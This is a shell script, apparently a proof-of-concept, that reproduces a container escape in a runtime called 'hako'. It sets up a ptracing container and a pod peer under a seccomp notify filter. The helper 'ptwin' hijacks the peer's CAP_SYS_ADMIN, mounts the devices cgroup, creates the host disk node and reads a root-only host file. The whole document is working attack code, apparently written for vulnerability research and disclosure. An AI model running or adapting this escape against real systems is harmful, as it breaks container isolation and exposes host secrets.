#!/bin/sh
# Escape through the CAP_SYS_ADMIN that hako holds in a pod init (and an
# exec'd process) until execve when linux.seccomp uses SCMP_ACT_NOTIFY and
# noNewPrivileges is false (Docker's default). Attacker: container "a",
# Docker-like caps + CAP_SYS_PTRACE, no user namespace. Victim: "b", a pod
# peer sharing a's pid namespace, with a notify filter (any syscall).
# ptwin (in a) ptraces b's init (or `hako exec b ...`'s process) and reads a
# host file (mode 0600) through the host's root disk: mounts the devices
# cgroup v1 hierarchy, leaves the device cgroup, mknods /dev/vda, mounts it.
# Usage: pod-notify-escape.sh HAKO   (root; run from anywhere; uses /tmp/cold)
set -eu
HAKO=${1:-hako}
SRC=$(cd "$(dirname "$0")" && pwd)
W=/tmp/cold
mkdir -p $W
gcc -static -O2 -o $W/ptwin "$SRC/ptwin.c"
DCAPS='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER","CAP_MKNOD","CAP_NET_RAW","CAP_SETGID","CAP_SETUID","CAP_SETFCAP","CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL","CAP_AUDIT_WRITE"]'
HAKO="$HAKO" "$SRC/../scripts/busybox-bundle" $W/a sleep 100000
cp $W/ptwin $W/a/rootfs/bin/ptwin
jq --argjson c "$DCAPS" '.process.noNewPrivileges=false | .linux.cgroupsPath="/hako-cold/a" | .process.capabilities = {bounding:($c+["CAP_SYS_PTRACE"]),effective:($c+["CAP_SYS_PTRACE"]),permitted:($c+["CAP_SYS_PTRACE"])}' $W/a/config.json > $W/a/c.new && mv $W/a/c.new $W/a/config.json
HAKO="$HAKO" "$SRC/../scripts/busybox-bundle" $W/b sleep 100000
jq --argjson c "$DCAPS" '.process.noNewPrivileges=false | .linux.cgroupsPath="/hako-cold/b" | .process.capabilities = {bounding:$c,effective:$c,permitted:$c} | .linux.seccomp={defaultAction:"SCMP_ACT_ALLOW",listenerPath:"/tmp/cold/agent.sock",syscalls:[{names:["acct"],action:"SCMP_ACT_NOTIFY"}]}' $W/b/config.json > $W/b/c.new && mv $W/b/c.new $W/b/config.json
echo "host secret $(date +%s)" > $W/proof; chmod 600 $W/proof
python3 "$SRC/agent.py" $W/agent.sock > $W/agent.log 2>&1 &
AGENT=$!
sleep 0.5
H="$HAKO --root $W/state"
$H run -d --bundle $W/a a
APID=$($H state a | jq .pid)
jq --arg p "/proc/$APID/ns/pid" '.linux.namespaces |= map(if .type=="pid" then .path=$p else . end)' $W/b/config.json > $W/b/c.new && mv $W/b/c.new $W/b/config.json
DEV=$(mountpoint -d /tmp 2>/dev/null || stat -c '%Hd:%Ld' /tmp)
# 1. the pod init
$H exec -d a /bin/ptwin host $W/proof ${DEV%:*} ${DEV#*:} > $W/ptwin-create.log 2>&1
sleep 0.5
$H create --bundle $W/b b
sleep 1; cat $W/ptwin-create.log
$H start b
# 2. an exec into the pod member
$H exec -d a /bin/ptwin host $W/proof ${DEV%:*} ${DEV#*:} > $W/ptwin-exec.log 2>&1
sleep 0.5
$H exec b true
sleep 1; cat $W/ptwin-exec.log
grep devices /proc/$($H state b | jq .pid)/cgroup
$H delete --force b; $H delete --force a
kill $AGENT
rmdir /sys/fs/cgroup/*/hako-cold/a /sys/fs/cgroup/*/hako-cold/b /sys/fs/cgroup/*/hako-cold 2>/dev/null || true
